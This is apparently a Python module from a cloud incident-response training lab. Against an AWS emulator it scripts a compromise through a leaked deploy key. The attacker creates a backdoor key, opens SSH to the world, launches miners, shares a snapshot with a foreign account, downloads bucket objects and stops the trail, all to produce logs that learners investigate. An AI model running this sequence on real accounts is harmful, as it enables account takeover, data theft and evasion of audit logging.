"""The night, played against the emulator and recorded as it happened; the attacker's return.

Every call here is a real boto3 call: moto changes the account (the new key, the opened security
group, the miners, the shared snapshot, the stopped trail) and the lab's CloudTrail recorder writes
each call as the identity that made it, at the story's time (`recorder.story_time`), from its
address and with its user agent. moto enforces no IAM, so whether AWS would have let a call through
is asked of the policy engine (`labs.policy.can`) with the caller's policies as the account holds
them at that moment: a refused call is answered 403 before it reaches the emulator and recorded
with its error code (AccessDenied; Client.UnauthorizedOperation for EC2), as CloudTrail records it.

Credentials, as AWS treats them:
- an access key works while it exists and is Active;
- temporary credentials from GetSessionToken (36 hours here) outlive the key that made them:
  deleting the key does not end them; what ends them is taking the user's permissions away for
  tokens issued before a moment (a Deny with `aws:TokenIssueTime`), or the user itself;
- a call whose credentials are no longer valid never reaches the account: the lab lists it in
  `incident.attempts` and does not write it into the trail (the lab does not guess which such
  failures a service would record).
"""

from __future__ import annotations

import json
import threading
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

from botocore.awsrequest import AWSResponse
from botocore.exceptions import ClientError
from botocore import xform_name

from labs import company
from labs.cloudtrail import recorder
from labs.incident.plan import (
    DEPLOY_GROUP,
    DEPLOY_POLICY,
    DEPLOY_USER,
    MINER_REGION,
    MINER_TYPE,
    OFFICE_IP,
    PIPELINE_IP,
    Plan,
    plan,
)
from labs.language import both

SESSION_SECONDS = 129600
"""GetSessionToken's longest duration for an IAM user: 36 hours."""
MINER_IMAGE = "ami-12c6146b"
"""A public Linux image the emulator knows in us-east-1 (moto's sample AMIs)."""
PIPELINE_AGENT = "aws-cli/2.17.4 md/awscrt#0.20.11 ua/2.0 os/linux#6.5.0-1025-azure md/arch#x86_64 lang/python#3.11.9 " \
                 "md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.22 md/command#github-actions"
OFFICE_AGENT = "Boto3/1.35.0 md/Botocore#1.35.0 ua/2.0 os/macos#23.6.0 md/arch#arm64 lang/python#3.12.4 " \
               "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.0"

DEPLOY_DOCUMENT = {
    "Version": "2012-10-17",
    "Statement": [
        {"Sid": "Deploy", "Effect": "Allow", "Resource": "*",
         "Action": ["ec2:*", "s3:*", "ssm:SendCommand", "ssm:GetCommandInvocation", "ssm:ListCommandInvocations"]},
        {"Sid": "RotateItsOwnKey", "Effect": "Allow", "Resource": "*",
         "Action": ["iam:ListUsers", "iam:ListAccessKeys", "iam:CreateAccessKey", "iam:UpdateAccessKey",
                    "iam:DeleteAccessKey", "iam:GetAccessKeyLastUsed"]},
        {"Sid": "QuietDuringLoadTests", "Effect": "Allow", "Resource": "*",
         "Action": ["cloudtrail:DescribeTrails", "cloudtrail:GetTrailStatus", "cloudtrail:StartLogging",
                    "cloudtrail:StopLogging"]},
    ],
}
"""What the colleague gave the pipeline: its deploy, "rotating its own key" (written for every user),
and pausing the trail during load tests ("all those log files")."""


@dataclass(frozen=True)
class SessionIdentity(recorder.Identity):
    """An IAM user's temporary credentials from GetSessionToken, without MFA."""

    issued: str = ""

    def _user_identity(self, account_id: str, session_start: str) -> dict:
        identity = dict(super()._user_identity(account_id, session_start))
        identity["sessionContext"] = {"sessionIssuer": {}, "webIdFederationData": {},
                                      "attributes": {"creationDate": self.issued, "mfaAuthenticated": "false"}}
        return identity


@dataclass
class Credential:
    name: dict
    user: str
    key_id: str
    kind: str = "key"
    """"key" (a long-term access key) or "session" (GetSessionToken)."""
    issued: datetime | None = None


@dataclass
class Attempt:
    when: str
    credential: str
    call: str
    outcome: str


@dataclass
class Incident:
    plan: Plan
    leaked_key: str
    deploy_user_id: str
    persistence_user: str = company.DEVELOPER
    persistence_key: str | None = None
    session_issued: datetime | None = None
    miners: list = field(default_factory=list)
    miner_volumes: list = field(default_factory=list)
    miner_group: str | None = None
    bastion_group: str | None = None
    app_volume: str | None = None
    app_instance: str | None = None
    shared_snapshot: str | None = None
    attempts: list = field(default_factory=list)
    returns: list = field(default_factory=list)
    """When the attacker came back (UTC datetimes), one per attacker_returns()."""

    @property
    def leaked(self) -> Credential:
        return Credential(both("the leaked key", "유출된 키"), DEPLOY_USER, self.leaked_key)

    @property
    def session(self) -> Credential:
        return Credential(both("the session it made (GetSessionToken)", "그 키로 만든 세션(GetSessionToken)"),
                          DEPLOY_USER, self.plan.session_key_id, "session", self.session_issued)

    @property
    def persistence(self) -> Credential | None:
        if not self.persistence_key:
            return None
        return Credential(both(f"the key made for {self.persistence_user}", f"{self.persistence_user}에게 만든 키"),
                          self.persistence_user, self.persistence_key)


_local = threading.local()
_clients: dict = {}


def _client(service: str, region: str):
    import os

    import boto3
    from botocore.config import Config

    key = (os.environ.get("AWS_ENDPOINT_URL"), service, region)
    if key not in _clients:
        client = boto3.client(service, region_name=region, config=Config(retries={"max_attempts": 1}))
        recorder.mark_as_lab_client(client)
        client.meta.events.register("before-call", _before_call)
        _clients[key] = client
    return _clients[key]


def _before_call(model, context, **_kwargs):
    """The caller's user agent; a refusal the policy engine decided, or an answer the emulator
    cannot give (GetSessionToken's credentials), in place of the call."""
    agent = getattr(_local, "user_agent", None)
    if agent:
        context[recorder._USER_AGENT] = agent
    refusal = getattr(_local, "refusal", None)
    if refusal is not None:
        _local.refusal = None
        code, message = refusal
        parsed = {"Error": {"Code": code, "Message": message},
                  "ResponseMetadata": {"RequestId": str(uuid.uuid4()), "HTTPStatusCode": 403}}
        return AWSResponse(f"https://{model.service_model.endpoint_prefix}.amazonaws.com/", 403, {}, None), parsed
    answer = getattr(_local, "answer", None)
    if answer is not None:
        _local.answer = None
        return AWSResponse(f"https://{model.service_model.endpoint_prefix}.amazonaws.com/", 200, {}, None), answer
    return None


# --- who may do what ------------------------------------------------------------------------------

def user_policies(aws, user: str):
    """The user's identity-based policies (its own and its groups'), as the policy engine reads them;
    None when the user does not exist."""
    from labs.inventory import iam as iam_inventory

    iam = aws.client("iam")
    with recorder.unrecorded():
        try:
            entry = iam.get_user(UserName=user)["User"]
        except ClientError as error:
            if error.response["Error"]["Code"] == "NoSuchEntity":
                return None
            raise
        documents = iam_inventory.user_policy_documents(iam, entry["UserName"])
    return documents


def key_status(aws, user: str, key_id: str) -> str | None:
    with recorder.unrecorded():
        try:
            keys = aws.client("iam").list_access_keys(UserName=user)["AccessKeyMetadata"]
        except ClientError as error:
            if error.response["Error"]["Code"] == "NoSuchEntity":
                return None
            raise
    return next((k["Status"] for k in keys if k["AccessKeyId"] == key_id), None)


def _iso(moment: datetime) -> str:
    return moment.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def context_for(credential: Credential, ip: str, moment: datetime) -> dict:
    context = {"aws:SourceIp": ip, "aws:SecureTransport": "true", "aws:CurrentTime": _iso(moment),
               "aws:ViaAWSService": "false"}
    if credential.kind == "session":
        context["aws:TokenIssueTime"] = _iso(credential.issued)
        context["aws:MultiFactorAuthPresent"] = "false"
    return context


NEEDS_NO_PERMISSION = {"sts:GetCallerIdentity"}


def decide(aws, credential: Credential, action: str, resource: str, ip: str, moment: datetime, policies=None,
           status: str | None = None):
    """(authenticated, allowed, decision or None) for one call, as AWS would decide it now; `policies`
    and `status` (the key's) when the caller already read them."""
    if credential.kind == "key":
        if (status or key_status(aws, credential.user, credential.key_id)) != "Active":
            return False, False, None
    else:
        expired = credential.issued is None or moment >= credential.issued + timedelta(seconds=SESSION_SECONDS)
        if expired:
            return False, False, None
    if policies is None:
        policies = user_policies(aws, credential.user)
    if policies is None:
        return False, False, None  # the user is gone: its keys and sessions with it
    from labs.policy import can, iam_user

    decision = can(iam_user(aws.account_id, credential.user), action, resource, identity=policies,
                   context=context_for(credential, ip, moment))
    if action in NEEDS_NO_PERMISSION or (action == "sts:GetSessionToken" and credential.kind == "key"):
        return True, decision.outcome != "explicit deny", decision
    return True, decision.allowed, decision


def _refusal(service: str, action: str, resource: str, account: str, user: str):
    if service == "ec2":
        return "Client.UnauthorizedOperation", "You are not authorized to perform this operation."
    return "AccessDenied", (f"User: arn:aws:iam::{account}:user/{user} is not authorized to perform: {action} "
                            f"on resource: {resource}")


# --- one call ------------------------------------------------------------------------------------

class Actor:
    """Someone making calls: their identity in the records, address, user agent and credential."""

    def __init__(self, aws, incident: Incident | None, identity, user_agent: str,
                 credential: Credential | None = None):
        self.aws, self.incident, self.identity = aws, incident, identity
        self.user_agent, self.credential = user_agent, credential
        self._policies = None
        self._status = None

    def call(self, service: str, operation: str, region: str | None = None, action: str | None = None,
             resource: str = "*", answer: dict | None = None, **params):
        """The call's answer, or None when it failed (refused by IAM, or never reaching the account)."""
        region = region or self.aws.region
        action = action or f"{service}:{operation}"
        if self.credential is not None:
            moment = _story_moment()
            if self._policies is None:
                self._policies = user_policies(self.aws, self.credential.user)
                self._status = (key_status(self.aws, self.credential.user, self.credential.key_id)
                                if self.credential.kind == "key" else None)
            authenticated, allowed, _ = decide(self.aws, self.credential, action, resource, self.identity.source_ip,
                                               moment, self._policies, self._status or "Gone")
            if not authenticated:
                if self.incident is not None:
                    self.incident.attempts.append(Attempt(_iso(moment), self.credential.name["en"], action,
                                                          "refused: the credentials are no longer valid"))
                return None
            if not allowed:
                _local.refusal = _refusal(service, action, resource, self.aws.account_id, self.credential.user)
        _local.user_agent = self.user_agent
        _local.answer = answer
        try:
            with recorder.acting_as(self.identity):
                return getattr(_client(service, region), xform_name(operation))(**params)
        except ClientError:
            return None
        finally:
            _local.user_agent = _local.refusal = _local.answer = None


def _story_moment() -> datetime:
    """The moment the next recorded call will carry (the story's clock, or now)."""
    moment = recorder._story.get("moment")
    return moment if moment is not None else datetime.now(timezone.utc)


# --- the company's resources the night needs ------------------------------------------------------

def create_deploy_user(aws) -> str:
    """deploy-bot: the GitHub Actions pipeline's IAM user, in the deployers group with the colleague's
    DeployPipeline policy, and one access key: created 40 days ago, used by the pipeline yesterday."""
    iam = aws.client("iam")
    with recorder.unrecorded():
        try:
            iam.get_user(UserName=DEPLOY_USER)
            return DEPLOY_USER
        except ClientError as error:
            if error.response["Error"]["Code"] != "NoSuchEntity":
                raise
        iam.create_user(UserName=DEPLOY_USER, Tags=[{"Key": "team", "Value": "community-app"},
                                                    {"Key": "purpose", "Value": "github-actions-deploy"}])
        iam.create_group(GroupName=DEPLOY_GROUP)
        policy = iam.create_policy(PolicyName=DEPLOY_POLICY, PolicyDocument=json.dumps(DEPLOY_DOCUMENT),
                                   Description="What the deploy pipeline needs")["Policy"]["Arn"]
        iam.attach_group_policy(GroupName=DEPLOY_GROUP, PolicyArn=policy)
        iam.add_user_to_group(GroupName=DEPLOY_GROUP, UserName=DEPLOY_USER)
        key = iam.create_access_key(UserName=DEPLOY_USER)["AccessKey"]["AccessKeyId"]
    history = getattr(aws, "history", None)
    if history is not None:
        history.user(DEPLOY_USER, created_days_ago=40)
        history.key(key, created_days_ago=40, used_days_ago=1, service="ssm")
    return DEPLOY_USER


def record_data_events(aws) -> None:
    """Sungjin added data events for the image bucket to the trail after chapter 08 (CIS 3.8/3.9):
    who reads and writes the users' photos is recorded too."""
    bucket = company.image_bucket_name(aws.account_id)
    with recorder.unrecorded():
        aws.client("cloudtrail").put_event_selectors(TrailName=company.TRAIL_NAME, EventSelectors=[{
            "ReadWriteType": "All", "IncludeManagementEvents": True,
            "DataResources": [{"Type": "AWS::S3::Object", "Values": [f"arn:aws:s3:::{bucket}/"]}]}])


def _ensure_image_bucket(aws) -> str:
    name = company.image_bucket_name(aws.account_id)
    with recorder.unrecorded():
        if name in [b["Name"] for b in aws.client("s3").list_buckets().get("Buckets", [])]:
            return name
    return company.create_image_bucket(aws)


def _first_key(aws, user: str) -> str | None:
    with recorder.unrecorded():
        keys = aws.client("iam").list_access_keys(UserName=user)["AccessKeyMetadata"]
    return keys[0]["AccessKeyId"] if keys else None


def _user_id(aws, user: str) -> str:
    with recorder.unrecorded():
        return aws.client("iam").get_user(UserName=user)["User"]["UserId"]


def _volume_of(aws, instance_id: str, region: str | None = None) -> str | None:
    """The id of an instance's first EBS volume (in `region`, when not the lab's own)."""
    ec2 = aws.client("ec2") if region in (None, aws.region) else recorder.internal_client("ec2", region)
    with recorder.unrecorded():
        reservations = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"]
    for reservation in reservations:
        for instance in reservation["Instances"]:
            for mapping in instance.get("BlockDeviceMappings", []):
                if mapping.get("Ebs", {}).get("VolumeId"):
                    return mapping["Ebs"]["VolumeId"]
    return None


def team_identities(aws) -> dict:
    """The team at work: Sungjin (the learner's identity), Minho and Jiyoung, each with temporary
    credentials from an MFA sign-in, from the office."""
    return {
        "sungjin": recorder.LEARNER,
        "minho": recorder.Identity(company.DEVELOPER, _user_id(aws, company.DEVELOPER), "ASIA6ODU5DHTMINHO001",
                                   OFFICE_IP, mfa_session=True),
    }


# --- the ordinary day and the night -------------------------------------------------------------------

def play(aws) -> Incident:
    """The company's day, then the night, recorded; idempotent (the lab keeps the incident)."""
    existing = getattr(aws, "incident", None)
    if existing is not None:
        return existing
    chosen = plan()
    for create in (_ensure_image_bucket, company.create_app_server, company.create_bastion_host, company.create_trail,
                   company.create_developer_user, create_deploy_user, record_data_events):
        with recorder.unrecorded():
            create(aws)
    leaked = _first_key(aws, DEPLOY_USER)
    incident = Incident(plan=chosen, leaked_key=leaked, deploy_user_id=_user_id(aws, DEPLOY_USER))
    with recorder.unrecorded():
        incident.bastion_group = company.security_group_id(aws, company.BASTION_SECURITY_GROUP)
        incident.app_volume = _volume_of(aws, company.instance_id(aws))
        app = company.instance_id(aws)
    incident.app_instance = app
    aws.incident = incident
    _ordinary_day(aws, incident)
    _night(aws, incident)
    return incident


def _ordinary_day(aws, incident: Incident) -> None:
    team = team_identities(aws)
    trail = company.TRAIL_NAME
    sungjin = Actor(aws, None, team["sungjin"], OFFICE_AGENT)
    with recorder.story_time(1, "00:41"):
        sungjin.call("cloudtrail", "DescribeTrails")
        sungjin.call("cloudtrail", "GetTrailStatus", Name=trail)
        sungjin.call("iam", "ListUsers")
        sungjin.call("ec2", "DescribeSecurityGroups")
    minho = Actor(aws, None, team["minho"], OFFICE_AGENT)
    with recorder.story_time(1, "02:13"):
        minho.call("ec2", "DescribeInstances")
        minho.call("s3", "ListBuckets")
        minho.call("s3", "ListObjectsV2", Bucket=company.image_bucket_name(aws.account_id), Prefix="uploads/")
    pipeline = Actor(aws, None, recorder.Identity(DEPLOY_USER, incident.deploy_user_id, incident.leaked_key,
                                                  PIPELINE_IP), PIPELINE_AGENT)
    app = incident.app_instance
    with recorder.story_time(1, "09:05"):
        pipeline.call("sts", "GetCallerIdentity", region="us-east-1")
        pipeline.call("ec2", "DescribeInstances", Filters=[{"Name": "tag:Name", "Values": [company.APP_INSTANCE]}])
        pipeline.call("ssm", "SendCommand", InstanceIds=[app], DocumentName="AWS-RunShellScript",
                      Parameters={"commands": ["cd /srv/community-app && ./deploy.sh"]})
        pipeline.call("iam", "ListAccessKeys", UserName=DEPLOY_USER)


def _night(aws, incident: Incident) -> None:
    chosen = incident.plan
    account, trail = aws.account_id, company.TRAIL_NAME
    trail_arn = f"arn:aws:cloudtrail:{aws.region}:{account}:trail/{trail}"
    leaked_identity = recorder.Identity(DEPLOY_USER, incident.deploy_user_id, incident.leaked_key, chosen.attacker_ip)
    key = Actor(aws, incident, leaked_identity, chosen.user_agent, incident.leaked)
    user_arn = f"arn:aws:iam::{account}:user/{DEPLOY_USER}"

    with recorder.story_time(1, chosen.at(16, 5)):
        key.call("sts", "GetCallerIdentity", region="us-east-1")
        key.call("iam", "ListUsers")
        key.call("iam", "ListAttachedUserPolicies", resource=user_arn, UserName=DEPLOY_USER)
        key.call("iam", "ListGroupsForUser", resource=user_arn, UserName=DEPLOY_USER)
        key.call("s3", "ListBuckets", action="s3:ListAllMyBuckets")
        key.call("ec2", "DescribeRegions", region="us-east-1")
        key.call("ec2", "DescribeInstances")
        key.call("cloudtrail", "DescribeTrails")
        key.call("cloudtrail", "DeleteTrail", resource=trail_arn, Name=trail)

    with recorder.story_time(1, chosen.at(16, 38)):
        issued = _story_moment()
        incident.session_issued = issued
        expiration = issued + timedelta(seconds=SESSION_SECONDS)
        key.call("sts", "GetSessionToken", region="us-east-1", DurationSeconds=SESSION_SECONDS, answer={
            "Credentials": {"AccessKeyId": chosen.session_key_id, "SessionToken": "IQoJb3JpZ2luX2VjEXAMPLE",
                            "Expiration": expiration},
            "ResponseMetadata": {"RequestId": str(uuid.uuid4()), "HTTPStatusCode": 200}})
        key.call("iam", "ListAccessKeys", resource=f"arn:aws:iam::{account}:user/{incident.persistence_user}",
                 UserName=incident.persistence_user)
        created = key.call("iam", "CreateAccessKey", resource=f"arn:aws:iam::{account}:user/{incident.persistence_user}",
                           UserName=incident.persistence_user)
        if created:
            incident.persistence_key = created["AccessKey"]["AccessKeyId"]

    session_identity = SessionIdentity(DEPLOY_USER, incident.deploy_user_id, chosen.session_key_id, chosen.attacker_ip,
                                       issued=_iso(incident.session_issued))
    session = Actor(aws, incident, session_identity, chosen.user_agent, incident.session)
    with recorder.story_time(1, chosen.at(17, 9)):
        session.call("ec2", "DescribeSecurityGroups")
        session.call("ec2", "AuthorizeSecurityGroupIngress", GroupId=incident.bastion_group, IpPermissions=[{
            "IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])

    with recorder.story_time(1, chosen.at(17, 26)):
        session.call("ec2", "DescribeVpcs", region=MINER_REGION)
        group = session.call("ec2", "CreateSecurityGroup", region=MINER_REGION, GroupName="ssh-anywhere",
                             Description="ssh")
        if group:
            incident.miner_group = group["GroupId"]
            session.call("ec2", "AuthorizeSecurityGroupIngress", region=MINER_REGION, GroupId=group["GroupId"],
                         IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22,
                                         "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
        launched = session.call("ec2", "RunInstances", region=MINER_REGION, ImageId=MINER_IMAGE, InstanceType=MINER_TYPE,
                                MinCount=chosen.miners, MaxCount=chosen.miners,
                                SecurityGroupIds=[incident.miner_group] if incident.miner_group else [])
        if launched:
            incident.miners = [i["InstanceId"] for i in launched["Instances"]]
            incident.miner_volumes = [v for v in (_volume_of(aws, i, MINER_REGION) for i in incident.miners) if v]

    with recorder.story_time(1, chosen.at(18, 31)):
        session.call("ec2", "DescribeVolumes")
        snapshot = session.call("ec2", "CreateSnapshot", VolumeId=incident.app_volume, Description="backup")
        if snapshot:
            incident.shared_snapshot = snapshot["SnapshotId"]
            session.call("ec2", "ModifySnapshotAttribute", SnapshotId=snapshot["SnapshotId"],
                         Attribute="createVolumePermission", OperationType="add", UserIds=[chosen.foreign_account])

    if incident.persistence:
        minho_identity = recorder.Identity(incident.persistence_user, _user_id(aws, incident.persistence_user),
                                           incident.persistence_key, chosen.attacker_ip)
        backdoor = Actor(aws, incident, minho_identity, chosen.user_agent, incident.persistence)
        bucket = company.image_bucket_name(account)
        with recorder.story_time(1, chosen.at(19, 4)):
            listed = backdoor.call("s3", "ListObjectsV2", action="s3:ListBucket", resource=f"arn:aws:s3:::{bucket}",
                                   Bucket=bucket)
            for item in (listed or {}).get("Contents", []):
                backdoor.call("s3", "GetObject", resource=f"arn:aws:s3:::{bucket}/{item['Key']}", Bucket=bucket,
                              Key=item["Key"])

    with recorder.story_time(1, chosen.at(20, 19)):
        session.call("cloudtrail", "StopLogging", resource=trail_arn, Name=trail)
